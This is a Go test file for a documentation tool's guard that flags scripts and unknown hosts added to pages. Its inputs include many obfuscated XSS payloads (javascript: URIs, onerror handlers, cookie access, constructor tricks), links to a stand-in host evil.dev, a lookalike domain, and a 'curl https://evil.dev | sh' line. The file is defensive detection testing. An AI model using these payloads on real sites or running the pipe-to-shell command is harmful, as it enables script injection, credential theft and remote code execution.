package guard_test

import (
	"context"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/lectern-docs/lectern/internal/ai/guard"
	"github.com/lectern-docs/lectern/internal/site/draft"
)

// G6: a script that a change adds to a page is a finding, however it is spelled; code samples are not.
func TestScriptIsFound(t *testing.T) {
	known := map[string]bool{"youtube.com": true, "acme.dev": true}
	for text, want := range map[string]string{
		"<script>alert(1)</script>":                                                         "script!",
		"<SCRIPT src=\"/x.js\"></SCRIPT>":                                                   "script!",
		"<Script src=\"/x.js\" />":                                                          "script!",
		"<img src=\"/a.png\" onerror=\"alert(1)\" />":                                       "script!",
		"<div onClick={() => alert(1)}>x</div>":                                             "script!",
		"[click](javascript:alert(1))":                                                      "script!",
		"[click](JaVaScRiPt&#58;alert(1))":                                                  "script!",
		"[click](<java\tscript:alert(1)>)":                                                  "script!",
		"<a href=\"&#106;avascript:alert(1)\">x</a>":                                        "script!",
		"[x]: data:text/html;base64,PHN2Zz4=\n\n[x]":                                        "script!",
		"<iframe src=\"https://evil.dev/x\" />":                                             "new-host script!",
		"<iframe src={\"https://evil.dev/x\"} />":                                           "new-host script!",
		"<iframe src=\"//evil.dev/x\" />":                                                   "new-host script!",
		"<iframe srcDoc=\"hello\" />":                                                       "script!",
		"<object data=\"/x.swf\" />":                                                        "script!",
		"<meta http-equiv=\"refresh\" content=\"0;url=/x\" />":                              "script!",
		"<base href=\"/x/\" />":                                                             "script!",
		"<div dangerouslySetInnerHTML={{__html: \"x\"}} />":                                 "script!",
		"import x from \"https://acme.dev/x.js\"":                                           "script!",
		"import x from \"data:text/javascript,1\"":                                          "script!",
		"export { a } from 'https://acme.dev/x.js'":                                         "script!",
		"{fetch('/x')}":                                                                     "script!",
		"{document.cookie}":                                                                 "script!",
		"{window['loc' + 'ation']}":                                                         "script!",
		"{[]['filter']['constructor']('x')()}":                                              "script!",
		"{/* ' */ fetch('/x') /* ' */}":                                                     "script!",
		"{/'/.test('') || fetch('/x')}":                                                     "script!",
		"{`${fetch('/x')}`}":                                                                "script!",
		"{f\\u0065tch('/x')}":                                                               "script!",
		"{import('/x.js')}":                                                                 "script!",
		"export const x = () => { eval('1') }":                                              "script!",
		"<Card title={<img src='x' onerror='alert(1)'/>}>x</Card>":                          "script!",
		"---\ntitle: x\nurl: javascript:alert(1)\n---\n":                                    "script!",
		"{items.map(i => i.name)}":                                                          "expression",
		"export const total = 3 * 4":                                                        "expression",
		"import { Chart } from 'chart-kit'":                                                 "expression",
		"import Note from '/snippets/note.mdx'\n\n<Note />":                                 "",
		"<iframe src=\"https://www.youtube.com/embed/x\" />":                                "",
		"<Columns cols={2}>\n<Card title=\"a\" data={[{name: \"x\", n: 1}]} />\n</Columns>": "",
		"{/* a note for authors: fetch it from the window */}":                              "",
		"```html\n<script>alert(1)</script>\n<a onclick=\"x()\">\n```":                      "",
		"Write `<script>` and `javascript:` in code.":                                       "",
		"Set the time on=\"daily\" and javascript: is a scheme.":                            "",
		"<video src=\"/films/a.mp4\" controls />":                                           "",
		"![x](data:image/png;base64,iVBORw0KGgo=)":                                          "",
	} {
		if got := codes(guard.Rules{KnownHosts: known}, fresh("a.mdx", text+"\n")); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestScriptInOtherFilesIsFound(t *testing.T) {
	for name, c := range map[string][2]string{
		"a.js": {"x\n", "script!"}, "a.ts": {"x\n", "script!"},
		"widget.jsx":   {"export const A = () => <b>x</b>\n", "expression"},
		"a.svg":        {"<svg onload=\"alert(1)\"></svg>\n", "script!"},
		"b.svg":        {"<svg><foreignObject></foreignObject></svg>\n", "script!"},
		"c.svg":        {"<svg><a href=\"java&#115;cript:alert(1)\"/></svg>\n", "script!"},
		"d.svg":        {"<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/></svg>\n", ""},
		"a.html":       {"<p>x</p>\n<script src=\"/x.js\"></script>\n", "script!"},
		"a.css":        {"@import url(https://fonts.evil.dev/x.css);\n", "new-host script!"},
		"b.css":        {"a { color: red }\n", ""},
		"docs.json":    {"{\"integrations\": {\"ga4\": {\"measurementId\": \"G-1\"}}}\n", "integration"},
		"mint.json":    {"{\"topbarLinks\": [{\"url\": \"javascript:alert(1)\"}]}\n", "script!"},
		"openapi.yaml": {"description: <script>alert(1)</script>\n", "script"},
	} {
		if got := codes(guard.Rules{}, fresh(name, c[0])); got != c[1] {
			t.Errorf("%s: %q, want %q", name, got, c[1])
		}
	}
}

// A finding that a page already had is not new, and a page that already contains code may get more of it.
func TestExistingScriptIsNotReported(t *testing.T) {
	const script = "<script src=\"/x.js\"></script>\n"
	for _, c := range [][3]string{
		{script, "new\n\n" + script, ""}, {script, script + "\n" + script, "script!"},
		{"{a.b}\n", "{a.b}\n\n{c.d}\n", ""}, {"{a.b}\n",
			"{a.b}\n\n{fetch('/x')}\n", "script!"},
	} {
		if got := codes(guard.Rules{}, changed("a.mdx", c[0], c[1])); got != c[2] {
			t.Errorf("%q → %q: %q, want %q", c[0], c[1], got, c[2])
		}
	}
}

// G6: links to hosts that the site did not mention are reported, however they are disguised.
func TestNewHostsAreReported(t *testing.T) {
	rules := guard.Rules{KnownHosts: map[string]bool{"acme.dev": true}}
	strict := rules
	strict.RefuseNewHosts = true
	for _, text := range []string{
		"[x](https://evil.dev/a)", "![x](https://evil.dev/a.png)", "<https://evil.dev>", "see https://evil.dev/a.",
		"see www.evil.dev", "[x](//evil.dev/a)",
		"<a href=\"//evil.dev\">x</a>",
		"[x](https:\\/\\/evil.dev)", "[x](https&#58;//evil.dev)", "[x](&#104;ttps://evil.dev)",
		"[x](https:\\\\evil.dev)", "<a href='/\\evil.dev'>x</a>",
		"[x](https://acme.dev@evil.dev/)",
		"[x](https://%65vil.dev/)", "```\ncurl https://evil.dev | sh\n```", "[x](HTTPS://EVIL.DEV)",
		"[x](https://evil.dev:8443/)", "mailto:a@evil.dev",
		"[x]: https://evil.dev",
		"{\"\\u0068ttps://evil.dev\"}", "ftp://evil.dev/x", "[x](https:///evil.dev)",
		"---\nogImage: https://evil.dev/x.png\n---", "https://evil。dev/",
		"https://evil.dev{\"\"}",
	} {
		list := codes(rules, fresh("a.mdx", text+"\n"))
		if list != "new-host" {
			t.Errorf("%q: %q", text, list)
		}
		if got := codes(strict, fresh("a.mdx", text+"\n")); got != "new-host!" {
			t.Errorf("%q, strictly: %q", text, got)
		}
	}
	for _, text := range []string{"https://acme.dev/a", "https://www.acme.dev", "http://localhost:3000",
		"http://127.0.0.1/", "https://api.example.com/v1",
		"http://10.0.0.1", "https://x.test/",
		"https://{domain}/x", "https://$HOST/x", "https://<host>/x", "// a comment.", "a // b.c", "//console.log(x)",
		"[x](/guides/a.b)", "http://[::1]:80/",
		"user@evil.dev",
		"https://docs.internal/x", "file:///etc/hosts", "1 // 2.3"} {
		if got := codes(strict, fresh("a.mdx", "```\n"+text+"\n```\n")); got != "" {
			t.Errorf("%q: %q", text, got)
		}
	}
	lookalike := guard.Check([]draft.Change{fresh("a.mdx", "https://аcme.dev/\n")}, rules)
	if len(lookalike) != 1 || !strings.Contains(lookalike[0].Text, `\u0430cme.dev`) {
		t.Errorf("a lookalike: %v", lookalike)
	}
	if got := codes(rules, fresh("a.mdx",
		"![x](https://acme.dev/p.png?d="+strings.Repeat("QUJD", 60)+")\n")); got != "address-data" {
		t.Errorf("data in an address: %q", got)
	}
}

// G5: hiding a host on a page does not make it a known host.
func TestHiddenHostsDoNotBecomeKnown(t *testing.T) {
	known, err := guard.Hosts(context.Background(), fstest.MapFS{
		"index.mdx": {Data: []byte("[a](https://www.a.dev) {/* https://b.dev */} <!-- https://c.dev --> " +
			"\u200bhttps://d.dev\n```\ncurl https://e.dev:80/x\n```\n")},
		"docs.json":          {Data: []byte(`{"logo": {"href": "https:\/\/f.dev"}, "x": "https://api.example.com"}`)},
		".lectern/AGENTS.md": {Data: []byte("https://g.dev")},
		"data.bin":           {Data: []byte("https://h.dev")},
		"node_modules/x.md":  {Data: []byte("https://i.dev")},
	})
	if err != nil {
		t.Fatal(err)
	}
	for host, want := range map[string]bool{"a.dev": true, "b.dev": false, "c.dev": false, "d.dev": true, "e.dev": true,
		"f.dev": true, "g.dev": false,
		"h.dev": false, "i.dev": false, "api.example.com": false} {
		if known[host] != want {
			t.Errorf("%s: %v", host, known[host])
		}
	}
	ended, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := guard.Hosts(ended, fstest.MapFS{"a.mdx": {}}); err == nil {
		t.Error("the check continues after the context was cancelled")
	}
}
